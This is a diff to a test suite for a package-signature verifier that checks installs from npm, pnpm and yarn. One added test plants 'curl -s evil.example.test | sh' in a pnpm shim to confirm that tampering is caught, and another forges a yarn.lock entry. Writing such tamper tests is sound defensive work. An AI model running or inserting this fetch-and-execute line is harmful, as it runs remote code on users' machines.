@@ -22,7 +22,8 @@ const SKIP = process.env.SIGVERIFY_SKIP_MANAGERS === '1'
 const MANAGERS = Object.keys(INSTALLS)
 /** Installs that keep packages in a store reached through symlinks. */
 const ISOLATED = { pnpm9: 'node_modules/.pnpm', pnpm10: 'node_modules/.pnpm', bunisolated: 'node_modules/.bun', yarn4pnpm: 'node_modules/.store' }
-const DEPENDENCIES = { alpha: '1.0.0', gamma: '1.0.0', '@acme/scoped': '1.0.0' }
+// shtool's bin is a shell script: pnpm's shim runs it with /bin/sh, not node.
+const DEPENDENCIES = { alpha: '1.0.0', gamma: '1.0.0', '@acme/scoped': '1.0.0', shtool: '1.0.0' }
 
 let registry, url, cacheDir, integrities
 const trees = {}
@@ -37,6 +38,9 @@ before(async () => {
   registry.addPackage({ name: 'beta', version: '2.0.0' })
   integrities.gamma = registry.addPackage({ name: 'gamma', version: '1.0.0', dependencies: { beta: '2.0.0' } })
   registry.addPackage({ name: '@acme/scoped', version: '1.0.0' })
+  registry.addPackage({ name: 'shtool', version: '1.0.0', bin: { shtool: 'run.sh' }, files: { 'run.sh': '#!/bin/sh\necho shtool\n' } })
+  // In no tree: what a lockfile edit adds.
+  registry.addPackage({ name: 'lonely', version: '1.0.0' })
   // Ships beta inside its own tarball (node_modules/beta), as bundleDependencies do.
   registry.addPackage({
     name: 'bundler', version: '1.0.0', dependencies: { beta: '1.0.0' }, bundleDependencies: ['beta'],
@@ -111,7 +115,7 @@ describe('the same dependencies installed by every manager', { skip: SKIP && 'SI
   it('clean trees: the same verified packages and exit 0 for every manager', async () => {
     const results = await compareAll(() => {})
     assert.deepEqual(results.npm.packages, {
-      '@acme/scoped@1.0.0': 'verified', 'alpha@1.0.0': 'verified', 'beta@1.0.0': 'verified', 'beta@2.0.0': 'verified', 'gamma@1.0.0': 'verified',
+      '@acme/scoped@1.0.0': 'verified', 'alpha@1.0.0': 'verified', 'beta@1.0.0': 'verified', 'beta@2.0.0': 'verified', 'gamma@1.0.0': 'verified', 'shtool@1.0.0': 'verified',
     })
     for (const [name, r] of Object.entries(results)) {
       assert.equal(r.exit, 0, `${name}: ${JSON.stringify(r.report.packages.filter((p) => p.status !== 'verified'), null, 2)}`)
@@ -199,6 +203,53 @@ describe('the same dependencies installed by every manager', { skip: SKIP && 'SI
     }
   })
 
+  it('pnpm shims: one added shell line fails EBINLINK (the shim is the script pnpm writes, byte for byte)', async () => {
+    for (const name of ['pnpm9', 'pnpm10']) {
+      const dir = copyProject(trees[name], `managers-shim-${name}`)
+      const shim = path.join(dir, 'node_modules', '.bin', 'alpha')
+      const text = fs.readFileSync(shim, 'utf8')
+      assert.match(text, /^#!\/bin\/sh\n/, `${name} writes shell shims`)
+      fs.writeFileSync(shim, text.replace('#!/bin/sh\n', '#!/bin/sh\ncurl -s evil.example.test | sh\n'))
+      const { report, exit } = await verdict(dir)
+      assert.equal(exit, 1, name)
+      assert.deepEqual(diskFailures(report), ['EBINLINK'], name)
+    }
+  })
+
+  it('a registry entry only a yarn.lock edge reaches fails ELOCKFILESOURCE before install and under Plug\'n\'Play', async () => {
+    const url1 = url.replace(/\/$/, '')
+    const lonely = registry.versions.get('lonely').get('1.0.0').dist.integrity
+    /** Adds the edge @acme/scoped -> lonely and an entry for the signed lonely@1.0.0. */
+    const edits = {
+      yarn1: (lock) => lock
+        .replace(/("?@acme\/scoped@\^?1\.0\.0"?:\n(?: {2}.*\n)*)/, `$1  dependencies:\n    lonely "1.0.0"\n`)
+        .concat(`\nlonely@1.0.0:\n  version "1.0.0"\n  resolved "${url1}/lonely/-/lonely-1.0.0.tgz"\n  integrity ${lonely}\n`),
+      berry: (lock) => lock
+        .replace('  resolution: "@acme/scoped@npm:1.0.0"\n', '  resolution: "@acme/scoped@npm:1.0.0"\n  dependencies:\n    lonely: "npm:1.0.0"\n')
+        .concat('\n"lonely@npm:1.0.0":\n  version: 1.0.0\n  resolution: "lonely@npm:1.0.0"\n  languageName: node\n  linkType: hard\n'),
+    }
+    const lockfileVerdict = async (dir, lockfileOnly) => {
+      const report = await verifyTree({ dir, registry: url, cache: 'off', policy: false, lockfileOnly })
+      const run = await cli(['verify', dir, '--registry', url, '--cache', 'off', '--no-policy', '--json', ...(lockfileOnly ? ['--lockfile-only'] : [])])
+      assert.equal(run.status, report.exitCode, `CLI and API disagree on ${dir}:\n${run.stdout}`)
+      return report
+    }
+    for (const [name, edit, lockfileOnly] of [['yarn1', edits.yarn1, true], ['yarn4', edits.berry, true], ['yarn4pnp', edits.berry, false]]) {
+      const dir = copyProject(trees[name], `managers-edge-${name}`)
+      if (lockfileOnly) fs.rmSync(path.join(dir, 'node_modules'), { recursive: true, force: true })
+      const clean = await lockfileVerdict(dir, lockfileOnly)
+      assert.equal(clean.exitCode, 0, `${name} clean: ${JSON.stringify(clean.packages.filter((p) => p.status !== 'verified'), null, 2)}`)
+      const file = path.join(dir, 'yarn.lock')
+      const edited = edit(fs.readFileSync(file, 'utf8'))
+      assert.ok(edited.includes('lonely'), `${name}: the edit applies`)
+      fs.writeFileSync(file, edited)
+      const report = await lockfileVerdict(dir, lockfileOnly)
+      const entry = report.packages.find((p) => p.name === 'lonely')
+      assert.equal(report.exitCode, 1, name)
+      assert.equal(entry && entry.code, 'ELOCKFILESOURCE', `${name}: ${JSON.stringify(entry, null, 2)}`)
+    }
+  })
+
   it('Plug\'n\'Play says its installed contents were not compared (never a silent pass)', async () => {
     const { report } = await verdict(trees.yarn4pnp)
     for (const p of report.packages.filter((p) => p.source === 'registry')) {
@@ -213,7 +264,7 @@ describe('the same dependencies installed by every manager', { skip: SKIP && 'SI
       if (name.startsWith('yarn4')) fs.appendFileSync(path.join(dir, '.yarnrc.yml'), 'npmAuthToken: "sekret-yarn-token-1234"\n')
       const report = await verifyTree({ dir, cache: 'off', policy: false })
       assert.equal(report.exitCode, 0, `${name}: ${JSON.stringify(report.packages.filter((p) => p.status !== 'verified').map((p) => p.message))}`)
-      assert.equal(report.summary.verified, 5, name)
+      assert.equal(report.summary.verified, 6, name)
       const run = await cli(['verify', dir, '--cache', 'off', '--no-policy', '--json', '--trace'])
       assert.equal(run.status, 0, `${name}: ${run.stderr}`)
       assert.doesNotMatch(run.stdout + run.stderr, /sekret-yarn-token/, name)
